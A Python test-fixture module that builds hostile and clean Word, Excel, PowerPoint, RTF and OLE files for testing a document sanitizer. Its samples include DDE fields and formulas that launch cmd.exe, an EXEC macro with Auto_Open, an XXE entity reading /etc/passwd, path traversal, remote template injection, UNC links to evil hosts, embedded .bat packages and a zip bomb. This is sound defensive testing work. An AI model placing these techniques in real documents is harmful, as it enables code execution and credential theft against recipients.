# ruff: noqa: E501 - the fixtures are XML literals, easier to read on one line each
"""Hostile and clean Office files built in code for the CDR tests (no corpus needed).

How each is built:

* OOXML packages: :func:`package` writes a zip from a dict of part names to XML text built
  here (content types, relationships, a minimal document/workbook/presentation).
* OLE compound files (the ``vbaProject.bin`` inside a docm, legacy ``.doc`` files with a VBA
  storage, an ObjectPool or ``\\x01Ole10Native`` object, an encrypted ``EncryptedPackage``):
  :func:`compound_file` is a minimal CFB (version 3) writer — olefile can read but not create
  compound files. Every stream is padded to at least 4096 bytes so none needs the mini
  stream; directory entries are linked as a right-sibling list (a valid, if degenerate,
  red-black tree). VBA "source" is a fake ``Attribute VB_Name`` stream: enough for olevba to
  detect a VBA project, nothing that runs.
* RTF: text with ``\\object\\objemb\\objclass\\objdata`` groups holding a hex-encoded OLE1
  ``Package`` header (rtfobj recognises it), and malformed variants.
"""

from __future__ import annotations

import io
import struct
import zipfile
from dataclasses import dataclass, field

ENDOFCHAIN = 0xFFFFFFFE
FREESECT = 0xFFFFFFFF
FATSECT = 0xFFFFFFFD
NOSTREAM = 0xFFFFFFFF
SECTOR = 512


Tree = dict[str, "bytes | Tree"]


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file ([MS-CFB] version 3) holding ``streams`` (paths with "/"
    make storages). Streams under 4096 bytes go to the mini stream, as the format requires, so
    a reader sees each stream's exact bytes; siblings form a chain (olefile needs no balanced
    tree)."""
    root: Tree = {}
    for path, data in streams.items():
        node = root
        *storages, name = path.split("/")
        for storage in storages:
            child = node.setdefault(storage, {})
            assert isinstance(child, dict)
            node = child
        node[name] = data
    return _compound(root)


_SECTOR, _MINI, _CUTOFF = 512, 64, 4096
_FREE, _END, _FAT_MARK, _NONE = FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM


@dataclass
class _Entry:
    name: str
    kind: int  # 1 storage, 2 stream, 5 root
    data: bytes = b""
    children: list[int] = field(default_factory=list)
    start: int = _END
    clsid: bytes = bytes(16)


def _flatten(tree: Tree, entries: list[_Entry], parent: int) -> None:
    for name, value in tree.items():
        index = len(entries)
        if isinstance(value, bytes):
            entries.append(_Entry(name, 2, value))
        else:
            entries.append(_Entry(name, 1))
            _flatten(value, entries, index)
        entries[parent].children.append(index)


def _chain(fat: list[int], first: int, count: int) -> None:
    for offset in range(count):
        fat[first + offset] = first + offset + 1 if offset + 1 < count else _END


def _compound(tree: Tree) -> bytes:
    entries = [_Entry("Root Entry", 5)]
    _flatten(tree, entries, 0)
    mini_stream = bytearray()
    mini_fat: list[int] = []
    big: list[_Entry] = []
    for entry in entries:
        if entry.kind != 2:
            continue
        if len(entry.data) >= _CUTOFF:
            big.append(entry)
            continue
        if not entry.data:
            continue
        sectors = -(-len(entry.data) // _MINI)
        entry.start = len(mini_fat)
        for offset in range(sectors):
            mini_fat.append(entry.start + offset + 1 if offset + 1 < sectors else _END)
        mini_stream += entry.data + b"\0" * (-len(entry.data) % _MINI)
    sectors: list[bytes] = []

    def place(data: bytes) -> tuple[int, int]:
        count = -(-len(data) // _SECTOR)
        first = len(sectors)
        padded = data + b"\0" * (-len(data) % _SECTOR)
        sectors.extend(padded[i : i + _SECTOR] for i in range(0, len(padded), _SECTOR))
        return first, count

    chains: list[tuple[int, int]] = []
    root_start, root_count = place(bytes(mini_stream)) if mini_stream else (_END, 0)
    if root_count:
        chains.append((root_start, root_count))
    entries[0].start, entries[0].data = root_start, bytes(mini_stream)
    for entry in big:
        entry.start, count = place(entry.data)
        chains.append((entry.start, count))
    mini_fat_bytes = struct.pack(f"<{len(mini_fat)}I", *mini_fat) if mini_fat else b""
    mini_fat_start, mini_fat_count = place(mini_fat_bytes) if mini_fat else (_END, 0)
    if mini_fat_count:
        chains.append((mini_fat_start, mini_fat_count))
    directory = b"".join(_directory_entry(entries, index) for index in range(len(entries)))
    directory += b"\0" * (-len(directory) % _SECTOR)
    dir_start, dir_count = place(directory)
    chains.append((dir_start, dir_count))
    fat_count = 1
    while fat_count * (_SECTOR // 4) < len(sectors) + fat_count:
        fat_count += 1
    fat = [_FREE] * (fat_count * _SECTOR // 4)
    for first, count in chains:
        _chain(fat, first, count)
    fat_start = len(sectors)
    for index in range(fat_count):
        fat[fat_start + index] = _FAT_MARK
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    place(fat_bytes)
    difat = [fat_start + index for index in range(fat_count)] + [_FREE] * (109 - fat_count)
    header = (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIII", 0, fat_count, dir_start, 0, _CUTOFF)
        + struct.pack("<IIII", mini_fat_start, mini_fat_count, _END, 0)
        + struct.pack("<109I", *difat)
    )
    return header + b"".join(sectors)


def _directory_entry(entries: list[_Entry], index: int) -> bytes:
    entry = entries[index]
    name = entry.name.encode("utf-16-le")[:62] + b"\0\0"
    # Siblings as a chain to the right; the first child hangs from the storage.
    right = _NONE
    for parent in entries:
        if index in parent.children:
            position = parent.children.index(index)
            if position + 1 < len(parent.children):
                right = parent.children[position + 1]
    child = entry.children[0] if entry.children else _NONE
    size = len(entry.data) if entry.kind != 1 else 0
    return (
        name.ljust(64, b"\0")
        + struct.pack("<HBB", len(name), entry.kind, 1)
        + struct.pack("<III", _NONE, right, child)
        + entry.clsid
        + bytes(4 + 16)
        + struct.pack("<IQ", entry.start if entry.kind != 1 else 0, size)
    )


VBA_SOURCE = b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nEnd Sub\r\n'


def vba_project() -> bytes:
    """A vbaProject.bin that olevba recognises as a VBA project."""
    return compound_file(
        {
            "VBA/dir": b"\x01" + VBA_SOURCE,
            "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
            "VBA/ThisDocument": b"\x00Attribut\x00" + VBA_SOURCE,
            "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
            "PROJECTwm": b"ThisDocument\x00T\x00h\x00i\x00s\x00\x00\x00\x00\x00",
        }
    )


def ole10native() -> bytes:
    """An embedded OLE object whose payload is an OLE1 Package of a .bat file."""
    payload = b"@echo off\r\necho harmless test\r\n"
    native = (
        b"\x02\x00"
        + b"evil.bat\x00"
        + b"C:\\evil.bat\x00"
        + b"\x00\x00\x03\x00"
        + struct.pack("<I", len(b"C:\\evil.bat\x00"))
        + b"C:\\evil.bat\x00"
        + struct.pack("<I", len(payload))
        + payload
    )
    return compound_file(
        {
            "\x01Ole10Native": struct.pack("<I", len(native)) + native,
            "\x01CompObj": b"\x01\x00\xfe\xff" + bytes(20),
        }
    )


def encrypted_ooxml() -> bytes:
    """An OOXML file as Office writes it when a password is set (content is random)."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<?xml version='1.0'?><encryption/>"
    return compound_file({"EncryptionInfo": info, "EncryptedPackage": bytes(range(256)) * 20})


# --- OOXML ---------------------------------------------------------------------------------

CT = "http://schemas.openxmlformats.org/package/2006/content-types"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MSRT = "http://schemas.microsoft.com/office/2006/relationships"

BENIGN = "無害化テスト本文 benign text ①㈱～"


def package(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content.encode() if isinstance(content, str) else content)
    return buffer.getvalue()


def content_types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> str:
    items = {"rels": "application/vnd.openxmlformats-package.relationships+xml"}
    items.update({"xml": "application/xml", "png": "image/png"})
    items.update(defaults or {})
    out = [f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="{CT}">']
    out += [f'<Default Extension="{e}" ContentType="{c}"/>' for e, c in items.items()]
    out += [f'<Override PartName="/{p}" ContentType="{c}"/>' for p, c in overrides.items()]
    return "".join(out) + "</Types>"


def rels(items: list[tuple[str, str, str, bool]]) -> str:
    out = [f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PR}">']
    for rid, rtype, target, external in items:
        mode = ' TargetMode="External"' if external else ""
        out.append(f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>')
    return "".join(out) + "</Relationships>"


WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORD_SETTINGS = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
# A valid 1x1 transparent PNG (the OOXML sanitizer re-encodes pictures, so it must decode).
PNG_1PX = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000b49444154789c6360000200000500017a5eab3f0000000049454e44ae426082"
)


def word_document(body: str) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W}" xmlns:r="{R}" '
        f'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
        f"<w:body>{body}<w:sectPr/></w:body></w:document>"
    )


def para(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def clean_docx() -> bytes:
    return package(
        {
            "[Content_Types].xml": content_types({"word/document.xml": WORD_MAIN}),
            "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "word/document.xml", False)]),
            "word/document.xml": word_document(
                para(BENIGN) + '<w:p><w:r><w:drawing><a:blip xmlns:a="' + A + '" r:embed="rId9"/>'
                "</w:drawing></w:r></w:p>"
                + '<w:p><w:hyperlink w:anchor="top"><w:r><w:t>内部リンク</w:t></w:r></w:hyperlink></w:p>'
                + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
            "word/_rels/document.xml.rels": rels(
                [("rId9", f"{RT}/image", "media/image1.png", False)]
            ),
            "word/media/image1.png": PNG_1PX,
        }
    )


def docm_with_vba() -> bytes:
    return package(
        {
            "[Content_Types].xml": content_types(
                {
                    "word/document.xml": WORD_MACRO_MAIN,
                    "word/vbaData.xml": "application/vnd.ms-word.vbaData+xml",
                },
                {"bin": "application/vnd.ms-office.vbaProject"},
            ),
            "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "word/document.xml", False)]),
            "word/document.xml": word_document(para(BENIGN)),
            "word/_rels/document.xml.rels": rels(
                [("rId1", f"{MSRT}/vbaProject", "vbaProject.bin", False)]
            ),
            "word/vbaProject.bin": vba_project(),
            "word/_rels/vbaProject.bin.rels": rels(
                [("rId1", f"{MSRT}/wordVbaData", "vbaData.xml", False)]
            ),
            "word/vbaData.xml": '<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
        }
    )


def docx_template_dde_link() -> bytes:
    """Remote template injection, a DDEAUTO complex field (split across runs), a DDE simple
    field, an INCLUDEPICTURE field and an external hyperlink (its text must stay)."""
    dde = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果テキスト</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr=" DDE cmd &quot;/c notepad&quot; "><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://example.invalid/x.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>リンク文字</w:t></w:r></w:hyperlink></w:p>'
    )
    return package(
        {
            "[Content_Types].xml": content_types(
                {"word/document.xml": WORD_MAIN, "word/settings.xml": WORD_SETTINGS}
            ),
            "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "word/document.xml", False)]),
            "word/document.xml": word_document(para(BENIGN) + dde),
            "word/_rels/document.xml.rels": rels(
                [
                    ("rId2", f"{RT}/settings", "settings.xml", False),
                    ("rId5", f"{RT}/hyperlink", "http://example.invalid/phish", True),
                ]
            ),
            "word/settings.xml": (
                f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="{W}" xmlns:r="{R}">'
                '<w:attachedTemplate r:id="rId1"/></w:settings>'
            ),
            "word/_rels/settings.xml.rels": rels(
                [("rId1", f"{RT}/attachedTemplate", "http://example.invalid/t.dotm", True)]
            ),
        }
    )


def docx_with_ole_object() -> bytes:
    body = para(BENIGN) + (
        '<w:p><w:r><w:object><v:shape id="s1"><v:imagedata r:id="rId9" o:title=""/></v:shape>'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId7"/></w:object></w:r></w:p>'
        '<w:p><w:r><w:object><w:control r:id="rId8" w:name="CommandButton1"/></w:object></w:r></w:p>'
    )
    return package(
        {
            "[Content_Types].xml": content_types(
                {
                    "word/document.xml": WORD_MAIN,
                    "word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
                },
                {"bin": "application/vnd.openxmlformats-officedocument.oleObject"},
            ),
            "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "word/document.xml", False)]),
            "word/document.xml": word_document(body),
            "word/_rels/document.xml.rels": rels(
                [
                    ("rId7", f"{RT}/oleObject", "embeddings/oleObject1.bin", False),
                    ("rId8", f"{RT}/control", "activeX/activeX1.xml", False),
                    ("rId9", f"{RT}/image", "media/image1.png", False),
                ]
            ),
            "word/embeddings/oleObject1.bin": ole10native(),
            "word/activeX/activeX1.xml": '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
            "word/media/image1.png": PNG_1PX,
        }
    )


XL_MACRO_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
XL_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


def sheet(cells: str) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{S}" xmlns:r="{R}">'
        f"<sheetData>{cells}</sheetData></worksheet>"
    )


def xlsm_with_macrosheet() -> bytes:
    """Excel 4 macro sheet with an Auto_Open name, a DDE formula and an external link."""
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="{S}" xmlns:r="{R}">'
        '<sheets><sheet name="データ" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" r:id="rId2"/></sheets>'
        '<externalReferences><externalReference r:id="rId3"/></externalReferences>'
        '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
        '<definedName name="Keep">データ!$A$1</definedName></definedNames></workbook>'
    )
    return package(
        {
            "[Content_Types].xml": content_types(
                {
                    "xl/workbook.xml": XL_MACRO_MAIN,
                    "xl/worksheets/sheet1.xml": XL_SHEET,
                    "xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml",
                    "xl/externalLinks/externalLink1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
                }
            ),
            "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "xl/workbook.xml", False)]),
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": rels(
                [
                    ("rId1", f"{RT}/worksheet", "worksheets/sheet1.xml", False),
                    ("rId2", f"{MSRT}/xlMacrosheet", "macrosheets/sheet1.xml", False),
                    ("rId3", f"{RT}/externalLink", "externalLinks/externalLink1.xml", False),
                ]
            ),
            "xl/worksheets/sheet1.xml": sheet(
                f'<row r="1"><c r="A1" t="inlineStr"><is><t>{BENIGN}</t></is></c>'
                '<c r="B1"><f>cmd|\' /c calc\'!A0</f><v>0</v></c><c r="C1"><f>SUM(1,2)</f><v>3</v></c></row>'
            ),
            "xl/macrosheets/sheet1.xml": (
                f'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{S}">'
                '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
            ),
            "xl/externalLinks/externalLink1.xml": (
                f'<?xml version="1.0"?><externalLink xmlns="{S}" xmlns:r="{R}"><externalBook r:id="rId1"/></externalLink>'
            ),
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
                [
                    (
                        "rId1",
                        f"{RT}/externalLinkPath",
                        "file:///\\\\evil.invalid\\share\\book.xlsx",
                        True,
                    )
                ]
            ),
        }
    )


PPT_MACRO_MAIN = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
PPT_SLIDE = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"


def pptm_with_vba_and_action() -> bytes:
    slide = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:sld xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}">'
        '<p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="t">'
        '<a:hlinkClick r:id="" action="ppaction://program"/></p:cNvPr></p:nvSpPr>'
        f"<p:txBody><a:p><a:r><a:t>{BENIGN}</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
    )
    presentation = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:presentation xmlns:p="{P}" xmlns:r="{R}">'
        '<p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst></p:presentation>'
    )
    return package(
        {
            "[Content_Types].xml": content_types(
                {"ppt/presentation.xml": PPT_MACRO_MAIN, "ppt/slides/slide1.xml": PPT_SLIDE},
                {"bin": "application/vnd.ms-office.vbaProject"},
            ),
            "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "ppt/presentation.xml", False)]),
            "ppt/presentation.xml": presentation,
            "ppt/_rels/presentation.xml.rels": rels(
                [
                    ("rId1", f"{MSRT}/vbaProject", "vbaProject.bin", False),
                    ("rId2", f"{RT}/slide", "slides/slide1.xml", False),
                ]
            ),
            "ppt/slides/slide1.xml": slide,
            "ppt/vbaProject.bin": vba_project(),
        }
    )


def docx_with_dtd() -> bytes:
    """XXE: an external entity in the main part."""
    xxe = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
    )
    parts = {
        "[Content_Types].xml": content_types({"word/document.xml": WORD_MAIN}),
        "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "word/document.xml", False)]),
        "word/document.xml": xxe,
    }
    return package(dict(parts))


def docx_bomb() -> bytes:
    """A part that inflates 1000:1 past the ratio limit."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": content_types({"word/document.xml": WORD_MAIN}),
        "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "word/document.xml", False)]),
        "word/document.xml": word_document(para("x")),
        "word/media/big.png": bytes(30 * 1024 * 1024),
    }
    return package(parts)


def docx_many_entries(count: int = 5000) -> bytes:
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": content_types({"word/document.xml": WORD_MAIN}),
        "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "word/document.xml", False)]),
        "word/document.xml": word_document(para("x")),
    }
    for i in range(count):
        parts[f"word/media/f{i}.png"] = b""
    return package(parts)


def docx_rels_cycle() -> bytes:
    """Parts whose relationships point at each other (and at themselves)."""
    return package(
        {
            "[Content_Types].xml": content_types({"word/document.xml": WORD_MAIN}),
            "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "word/document.xml", False)]),
            "word/document.xml": word_document(para(BENIGN)),
            "word/_rels/document.xml.rels": rels(
                [
                    ("rId1", f"{RT}/settings", "document.xml", False),
                    ("rId2", f"{RT}/styles", "../word/./document.xml", False),
                    ("rId3", f"{RT}/styles", "../../../../etc/passwd", False),
                ]
            ),
        }
    )


def deep_xml_docx(depth: int = 5000) -> bytes:
    body = "<w:p>" * depth + "</w:p>" * depth
    return package(
        {
            "[Content_Types].xml": content_types({"word/document.xml": WORD_MAIN}),
            "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "word/document.xml", False)]),
            "word/document.xml": word_document(body),
        }
    )


# --- legacy OLE ----------------------------------------------------------------------------


def word_stream(text: str) -> bytes:
    """Not a real FIB: enough for the stream to exist (detection looks at storages)."""
    return b"\xec\xa5" + bytes(30) + text.encode("utf-16-le")


def doc_with_macros() -> bytes:
    project = {f"Macros/{k}": v for k, v in _vba_streams().items()}
    return compound_file({"WordDocument": word_stream(BENIGN), "1Table": bytes(512), **project})


def _vba_streams() -> dict[str, bytes]:
    return {
        "VBA/dir": b"\x01" + VBA_SOURCE,
        "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        "VBA/ThisDocument": b"\x00Attribut\x00" + VBA_SOURCE,
        "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
    }


def doc_with_object() -> bytes:
    return compound_file(
        {
            "WordDocument": word_stream(BENIGN),
            "1Table": bytes(512),
            "ObjectPool/_1234567890/\x01Ole10Native": b"\x10\x00\x00\x00"
            + b"\x02\x00evil.bat\x00"
            + bytes(8),
            "ObjectPool/_1234567890/\x01CompObj": bytes(28),
        }
    )


# BOF (BIFF8 workbook globals) then EOF: the smallest record stream readers accept.
BIFF_MINIMAL = b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(12) + b"\x0a\x00\x00\x00"


def clean_xls() -> bytes:
    return compound_file({"Workbook": BIFF_MINIMAL})


def xls_with_mbd() -> bytes:
    return compound_file(
        {
            "Workbook": BIFF_MINIMAL,
            "MBD0001ABCD/\x01Ole10Native": b"\x10\x00\x00\x00" + bytes(16),
        }
    )


def clean_doc() -> bytes:
    return compound_file({"WordDocument": word_stream(BENIGN), "1Table": bytes(512)})


def msg_with_attachment() -> bytes:
    return compound_file(
        {
            "__substg1.0_0037001F": "件名".encode("utf-16-le"),
            "__attach_version1.0_#00000000/__substg1.0_37010102": b"MZ" + bytes(100),
        }
    )


# --- RTF -----------------------------------------------------------------------------------


def ole1_package_hex() -> str:
    """Hex of an OLE1 embedded object whose class is ``Package`` (what rtfobj recognises)."""
    native = b"\x02\x00evil.bat\x00C:\\evil.bat\x00\x00\x00\x03\x00" + struct.pack("<I", 12)
    native += b"C:\\evil.bat\x00" + struct.pack("<I", 9) + b"echo test"
    header = struct.pack("<II", 0x00000501, 2)  # OLE version, format id = embedded
    header += struct.pack("<I", 8) + b"Package\x00"
    header += struct.pack("<I", 0) + struct.pack("<I", 0)  # topic, item
    header += struct.pack("<I", len(native)) + native
    return header.hex()


def rtf_with_object(text: str = "benign RTF text") -> bytes:
    hexdata = ole1_package_hex()
    return (
        "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}"
        f"\\pard {text}\\par "
        "{\\object\\objemb\\objw100\\objh100{\\*\\objclass Package}"
        f"{{\\*\\objdata {hexdata}}}"
        "{\\result {\\pard shown result\\par}}}"
        "\\pard after object\\par}"
    ).encode()


def rtf_with_nested_objdata() -> bytes:
    """An \\objdata outside any \\object, inside an unknown destination, split by whitespace."""
    hexdata = ole1_package_hex()
    split = "\n".join(hexdata[i : i + 64] for i in range(0, len(hexdata), 64))
    return (
        "{\\rtf1\\ansi \\pard visible\\par"
        "{\\*\\xyzunknown {\\objdata " + split + "}}"
        "\\pard tail\\par}"
    ).encode()


def rtf_template() -> bytes:
    return b"{\\rtf1\\ansi{\\*\\template http://example.invalid/t.dot}\\pard benign RTF text\\par}"


def clean_rtf() -> bytes:
    return b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard benign RTF text \\u26085?\\par}"


XLSX_PACKAGE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CHART = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"


def xlsx_with_external_hyperlink() -> bytes:
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="{S}" xmlns:r="{R}">'
        '<sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    return package(
        {
            "[Content_Types].xml": content_types(
                {"xl/workbook.xml": XLSX_MAIN, "xl/worksheets/sheet1.xml": XL_SHEET}
            ),
            "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "xl/workbook.xml", False)]),
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": rels(
                [("rId1", f"{RT}/worksheet", "worksheets/sheet1.xml", False)]
            ),
            "xl/worksheets/sheet1.xml": (
                f'<?xml version="1.0"?><worksheet xmlns="{S}" xmlns:r="{R}"><sheetData>'
                '<row r="1"><c r="A1" t="inlineStr"><is><t>グラフデータ</t></is></c></row></sheetData>'
                '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks></worksheet>'
            ),
            "xl/worksheets/_rels/sheet1.xml.rels": rels(
                [("rId1", f"{RT}/hyperlink", "http://example.invalid/", True)]
            ),
        }
    )


def docx_with_chart(
    embedded: bytes, embedded_ct: str = XLSX_PACKAGE, name: str = "Microsoft_Excel_Worksheet.xlsx"
) -> bytes:
    """A chart whose data workbook is an embedded package (what Word writes for charts);
    plus mail-merge settings pointing at an external data source."""
    chart = (
        '<?xml version="1.0"?><c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
        f'xmlns:r="{R}"><c:chart/><c:externalData r:id="rId1"/></c:chartSpace>'
    )
    document = word_document(
        para(BENIGN)
        + '<w:p><w:r><w:drawing><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId3"/></w:drawing></w:r></w:p>'
    )
    settings = (
        f'<?xml version="1.0"?><w:settings xmlns:w="{W}" xmlns:r="{R}"><w:mailMerge>'
        '<w:mainDocumentType w:val="formLetters"/><w:connectString w:val="Provider=x;Data Source=\\\\evil\\db"/>'
        '<w:query w:val="SELECT * FROM t"/><w:dataSource r:id="rId9"/></w:mailMerge></w:settings>'
    )
    ext = name.rsplit(".", 1)[-1]
    return package(
        {
            "[Content_Types].xml": content_types(
                {
                    "word/document.xml": WORD_MAIN,
                    "word/charts/chart1.xml": CHART,
                    "word/settings.xml": WORD_SETTINGS,
                },
                {ext: embedded_ct},
            ),
            "_rels/.rels": rels([("rId1", f"{RT}/officeDocument", "word/document.xml", False)]),
            "word/document.xml": document,
            "word/_rels/document.xml.rels": rels(
                [
                    ("rId3", f"{RT}/chart", "charts/chart1.xml", False),
                    ("rId4", f"{RT}/settings", "settings.xml", False),
                ]
            ),
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": rels(
                [("rId9", f"{RT}/mailMergeSource", "file:///\\\\evil\\db.mdb", True)]
            ),
            "word/charts/chart1.xml": chart,
            "word/charts/_rels/chart1.xml.rels": rels(
                [("rId1", f"{RT}/package", f"../embeddings/{name}", False)]
            ),
            f"word/embeddings/{name}": embedded,
        }
    )
